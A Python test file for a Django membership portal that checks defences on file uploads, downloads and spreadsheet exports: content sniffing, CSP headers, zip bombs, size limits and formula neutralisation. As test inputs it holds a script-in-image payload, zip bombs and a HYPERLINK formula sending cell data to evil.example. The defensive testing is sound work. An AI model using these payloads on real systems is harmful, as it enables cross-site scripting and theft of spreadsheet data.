"""Issue 11, uploads and downloads: what leaves the portal is typed by what it is, no page runs a
script it did not serve itself, and an upload is judged by its content."""

import datetime
import io
import re
import time
import zipfile
from pathlib import Path
from wsgiref.util import is_hop_by_hop

import openpyxl
import pytest
import time_machine
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.handlers.wsgi import WSGIRequest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone, translation

from meetings.models import Attachment
from members import excel
from members.models import Member
from partybloc.celery import app as celery_app
from partybloc.filecheck import check_inflation
from partybloc.jobs import services as jobs
from partybloc.jobs.models import Job
from partybloc.xlsx import table_workbook
from tests.excel_files import many_rows, member_row, upload, workbook_bytes
from tests.test_meetings import submitted
from tests.upload_files import (
    JPEG_HEADED_PAGE,
    PDF_BYTES,
    CountedUpload,
    image_bytes,
    zip_bomb,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def private_storage(settings, tmp_path):
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path)},
        },
    }
    return tmp_path


# The upload check ---------------------------------------------------------------------------


def test_a_page_behind_a_jpeg_header_is_refused_at_upload(world, as_user, private_storage):
    meeting = submitted(world)
    client = as_user(world.finance_office_secretary)
    response = client.post(
        reverse("meetings:attach", args=[meeting.pk]),
        {"file": SimpleUploadedFile("trang1.jpg", JPEG_HEADED_PAGE)},
        follow=True,
    )
    assert not meeting.attachments.exists()
    assert "không phải là tệp JPG thật" in response.content.decode()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("truncated.jpg", image_bytes("JPEG")[:-200]),
        ("cut.pdf", b"%PDF-1.4\n1 0 obj << >> endobj\n"),  # no %%EOF: not a whole PDF
        ("page.png", image_bytes("PNG") + b"<script>alert(1)</script>"),
    ],
)
def test_a_scan_that_is_not_what_it_claims_is_refused(
    world, as_user, private_storage, name, content
):
    meeting = submitted(world)
    client = as_user(world.finance_office_secretary)
    client.post(
        reverse("meetings:attach", args=[meeting.pk]), {"file": (SimpleUploadedFile(name, content))}
    )
    assert not meeting.attachments.exists()


def test_real_scans_are_accepted(world, as_user, private_storage):
    meeting = submitted(world)
    client = as_user(world.finance_office_secretary)
    url = reverse("meetings:attach", args=[meeting.pk])
    for name, content in [
        ("a.jpg", image_bytes("JPEG")),
        ("b.png", image_bytes("PNG")),
        ("c.pdf", PDF_BYTES),
    ]:
        client.post(url, {"file": SimpleUploadedFile(name, content)})
    assert sorted(meeting.attachments.values_list("kind", flat=True)) == ["jpg", "pdf", "png"]


# Downloads ----------------------------------------------------------------------------------


def _stored_attachment(world, meeting, name, content):
    attachment = Attachment(
        meeting=meeting,
        original_name=name,
        kind="jpg",  # as the old 8-byte check recorded it
        size=len(content),
        uploaded_by=world.finance_office_secretary,
    )
    attachment.file.save(name, ContentFile(content), save=False)
    attachment.save()
    return reverse("meetings:attachment", args=[meeting.pk, attachment.pk])


def _stored_job_output(world, name, content):
    job = jobs.create_job(kind=Job.Kind.MEMBER_IMPORT, by=world.office)
    job.output_file.save(name, ContentFile(content))
    return reverse("jobs:download", args=[job.pk])


def _stored_regulation(world, name, content):
    world.inspectorate.regulation_file.save(name, ContentFile(content))
    return reverse("organizations:regulation_file", args=[world.inspectorate.pk])


@pytest.mark.parametrize("name", ["trang1.jpg", "trang1.html", "trang1.svg"])
@pytest.mark.parametrize("store", [_stored_attachment, _stored_job_output, _stored_regulation])
def test_a_stored_page_in_disguise_is_served_as_bytes_to_save(
    world, as_user, private_storage, name, store
):
    """Stored before the content check (or by a path that skipped it): whatever the name."""
    if store is _stored_attachment:
        url = store(world, submitted(world), name, JPEG_HEADED_PAGE)
    else:
        url = store(world, name, JPEG_HEADED_PAGE)
    response = as_user(world.office).get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == JPEG_HEADED_PAGE


def test_a_checked_image_is_shown_and_a_checked_pdf_typed_as_one(world, as_user, private_storage):
    meeting = submitted(world)
    client = as_user(world.finance_office_secretary)
    scan = client.get(_stored_attachment(world, meeting, "trang1.png", image_bytes("PNG")))
    assert scan["Content-Type"] == "image/png"
    assert scan["Content-Disposition"].startswith("inline;")
    assert scan["X-Content-Type-Options"] == "nosniff"
    pdf = as_user(world.office).get(_stored_regulation(world, "quy-che.docx", PDF_BYTES))
    assert pdf["Content-Type"] == "application/pdf"


# The Content-Security-Policy ------------------------------------------------------------------

PAGES = ["/", "/login/", "/members/", "/meetings/", "/organizations/", "/no-such-page/"]


@pytest.mark.parametrize("path", PAGES)
def test_every_page_carries_the_policy(world, as_user, path):
    response = as_user(world.office).get(path)
    policy = response["Content-Security-Policy"]
    assert "default-src 'self'" in policy and "script-src 'self'" in policy
    assert "style-src 'self'" in policy and "unsafe-inline" not in policy
    assert response["X-Content-Type-Options"] == "nosniff"


def test_the_policy_is_sent_to_anonymous_visitors_and_on_downloads(client, world, as_user):
    assert "script-src 'self'" in client.get("/login/")["Content-Security-Policy"]
    template = as_user(world.office).get(reverse("members:import_template"))
    assert "Content-Security-Policy" in template and template["X-Content-Type-Options"] == "nosniff"


# What the policy refuses, found in the templates before a browser meets it: an inline handler
# (onchange=…), a style attribute, an inline <script> or <style>.
REFUSED = re.compile(
    r"""\son[a-z]+\s*=|\sstyle\s*=|<script(?![^>]*\bsrc=)[^>]*>|<style\b|javascript:""",
    re.IGNORECASE,
)
# Party documents are printed to PDF by WeasyPrint, never shown as pages.
PRINTED = Path(settings.BASE_DIR) / "templates" / "documents"


def test_no_template_holds_what_the_policy_refuses():
    found = []
    for template in sorted(Path(settings.BASE_DIR, "templates").rglob("*.html")):
        if PRINTED in template.parents:
            continue
        for number, line in enumerate(template.read_text().splitlines(), start=1):
            if REFUSED.search(line):
                found.append(f"{template.relative_to(settings.BASE_DIR)}:{number}: {line.strip()}")
    assert found == []


# Import files that unpack to gigabytes ------------------------------------------------------


def test_an_xlsx_that_unpacks_to_a_gigabyte_is_refused_before_parsing(
    world, as_user, private_storage
):
    bomb = zip_bomb(workbook_bytes([member_row(world.finance_office)]), unpacked=1 << 30)
    assert len(bomb) < 2 * 1024 * 1024  # under the upload limit, as in the issue
    client = as_user(world.office)
    started = time.monotonic()
    response = client.post(
        reverse("members:import"), {"file": SimpleUploadedFile("dang-vien.xlsx", bomb)}
    )
    assert time.monotonic() - started < 5
    assert response.status_code == 200
    assert "tối đa 100 MB sau khi giải nén" in response.content.decode()
    assert "token" not in response.context  # nothing kept, nothing previewed


def test_a_part_packed_a_thousandfold_is_refused_though_under_the_total(world):
    bomb = zip_bomb(workbook_bytes([member_row(world.finance_office)]), unpacked=50 << 20)
    with pytest.raises(ValidationError, match="100 MB"), translation.override("en"):
        excel.parse_rows(io.BytesIO(bomb), user=world.office)


def test_a_part_that_unpacks_to_more_than_its_directory_says_is_refused(world, settings):
    """The directory says 2 kB; the part holds 200 MB. Only what is declared is ever read."""
    bomb = zip_bomb(
        workbook_bytes([member_row(world.finance_office)]), unpacked=200 << 20, declared=2000
    )
    started = time.monotonic()
    with pytest.raises(ValidationError):
        excel.parse_rows(io.BytesIO(bomb), user=world.office)
    assert time.monotonic() - started < 3


def test_a_real_import_file_passes_the_unpacking_check(world):
    """A real list packs about 14 times (its sheet is over the 1 MB from which ratios count);
    20,000 members, the most an import takes, unpack to about 23 MB."""
    content = workbook_bytes(many_rows(world.finance_office, 2_000))
    check_inflation(io.BytesIO(content))  # no Inflates


# Uploads larger than the limit ----------------------------------------------------------------

MB = 1024 * 1024


@pytest.mark.parametrize("page", ["import", "attach"])
def test_a_200_mb_upload_is_refused_before_its_body_is_read(world, as_user, private_storage, page):
    client = as_user(world.office if page == "import" else world.finance_office_secretary)
    path = (
        reverse("members:import")
        if page == "import"
        else reverse("meetings:attach", args=[submitted(world).pk])
    )
    upload = CountedUpload(200 * MB)
    response = client.handler(upload.environ(client, path))
    assert response.status_code == 413
    assert upload.read_bytes == 0
    assert not any(is_hop_by_hop(header) for header in response.headers)  # WSGI refuses them
    assert "Tệp quá lớn (dung lượng tối đa 10 MB)" in response.content.decode()


def test_a_file_past_the_limit_stops_being_kept_and_the_form_says_so(
    world, as_user, private_storage, settings
):
    """Under the declared-length door (the file is 600 kB, the limit 100 kB): read to the end
    of a body no larger than the limit allows, but nothing past the limit is kept."""
    settings.UPLOAD_MAX_BYTES = 100 * 1024
    client = as_user(world.office)
    upload = CountedUpload(600 * 1024)
    response = client.handler(upload.environ(client, reverse("members:import")))
    assert response.status_code == 200
    assert "Tệp quá lớn (dung lượng tối đa 0 MB)" in response.content.decode()
    assert 'id="id_file"' in response.content.decode()  # the form again, the error on its field

    upload = CountedUpload(600 * 1024)
    request = WSGIRequest(upload.environ(client, reverse("members:import")))
    cut = request.FILES["file"]
    assert cut.size == 600 * 1024 and cut.read() == b""  # counted, but none of it kept


# Exports carry no live formula ----------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2&G2,"Xem chi tiết")'


def _cells(content: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formula_in(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    assert [cell.coordinate for cell in _cells(content) if cell.data_type == "f"] == []


def test_a_hometown_written_as_a_formula_is_exported_as_text(world, as_user):
    world.an.hometown = HYPERLINK
    world.an.save()
    response = as_user(world.office).get(reverse("members:export"))
    _no_formula_in(response.content)
    hometowns = [cell.value for cell in _cells(response.content) if cell.column_letter == "F"]
    assert "'" + HYPERLINK in hometowns


def test_every_formula_start_is_neutralised_in_a_table_export():
    starts = ["=1+1", "+1", "-2", "@SUM(A1)", "\tTab", "\rCR"]
    content = table_workbook("Danh sách", ["Tên"], [[text] for text in starts] + [[-3]])
    _no_formula_in(content)
    values = [cell.value for cell in _cells(content)][1:]
    assert values == ["'" + text for text in starts] + [-3]


def test_the_marked_copy_of_a_refused_file_keeps_typed_formulas_as_text(world):
    content = workbook_bytes([member_row(world.finance_office, **{"Quê quán": HYPERLINK})])
    marked = excel.errors_workbook(io.BytesIO(content), [excel.RowError(2, "Quê quán", "Sai")])
    _no_formula_in(marked)


def test_an_exported_formula_comes_back_as_typed_when_imported_again(world):
    world.an.hometown = HYPERLINK
    world.an.save()
    exported = openpyxl.load_workbook(
        io.BytesIO(
            excel.export_members(
                Member.objects.filter(pk=world.an.pk).select_related("organization"),
                full_national_ids=True,
            )
        )
    )
    sheet = exported.worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    new_id = world.an.national_id[:6] + "999999"  # a new member's numbers
    sheet.cell(2, headers.index("Số CCCD") + 1).value = new_id
    sheet.cell(2, headers.index("Số thẻ đảng viên") + 1).value = "79000123"
    buffer = io.BytesIO()
    exported.save(buffer)
    parsed = excel.parse_rows(buffer, user=world.office)
    assert parsed.errors == []
    assert parsed.rows[0].member.hometown == HYPERLINK


# Import files previewed but never confirmed ---------------------------------------------------


def _preview(client, rows):
    response = client.post(reverse("members:import"), {"file": upload(rows)})
    return response.context["token"]


def _stored(private_storage) -> list[str]:
    folder = private_storage / "member-imports"
    return sorted(p.name for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def test_a_cancelled_import_leaves_no_file_behind(world, as_user, private_storage):
    client = as_user(world.office)
    token = _preview(client, [member_row(world.finance_office)])
    bad_token = _preview(client, [member_row(world.finance_office, **{"Dân tộc": ""})])
    assert len(_stored(private_storage)) == 3  # two uploads and one marked copy
    for each in (token, bad_token):
        response = client.post(reverse("members:import_cancel", args=[each]), follow=True)
        assert "Đã hủy việc nhập và xóa tệp" in response.content.decode()
    assert _stored(private_storage) == []
    assert client.post(reverse("members:import_confirm", args=[token])).status_code == 404


def test_files_never_confirmed_are_swept_after_the_set_time(
    world, as_user, private_storage, settings
):
    settings.IMPORT_PREVIEW_KEEP_HOURS = 10
    client = as_user(world.office)
    _preview(client, [member_row(world.finance_office, name="Lê Văn Một")])
    confirmed = _preview(client, [member_row(world.finance_office, name="Lê Văn Hai")])
    client.post(reverse("members:import_confirm", args=[confirmed]))
    assert len(_stored(private_storage)) == 2

    with time_machine.travel(timezone.now() + datetime.timedelta(hours=9)):
        call_command("remove_unconfirmed_imports", stdout=io.StringIO())
    assert len(_stored(private_storage)) == 2  # not yet
    late_token = _preview(client, [member_row(world.finance_office, name="Lê Văn Ba")])
    with time_machine.travel(timezone.now() + datetime.timedelta(hours=11)):
        out = io.StringIO()
        call_command("remove_unconfirmed_imports", stdout=out)
        assert out.getvalue().startswith("2 import files")  # the forgotten one and the late one
    # The confirmed file is the job's input: kept with the job.
    job = Job.objects.get(kind=Job.Kind.MEMBER_IMPORT)
    assert _stored(private_storage) == [Path(job.input_file.name).name]

    response = client.post(reverse("members:import_confirm", args=[late_token]), follow=True)
    assert "Bản xem trước này đã hết hạn" in response.content.decode()


def test_celery_beat_runs_the_sweep_every_hour(world, as_user, private_storage):
    entry = settings.CELERY_BEAT_SCHEDULE["remove-unconfirmed-imports"]
    assert entry["schedule"] == datetime.timedelta(hours=1)
    task = celery_app.tasks[entry["task"]]
    client = as_user(world.office)
    _preview(client, [member_row(world.finance_office)])
    with time_machine.travel(timezone.now() + datetime.timedelta(days=2)):
        assert task.delay().get(timeout=10) == 1
    assert _stored(private_storage) == []
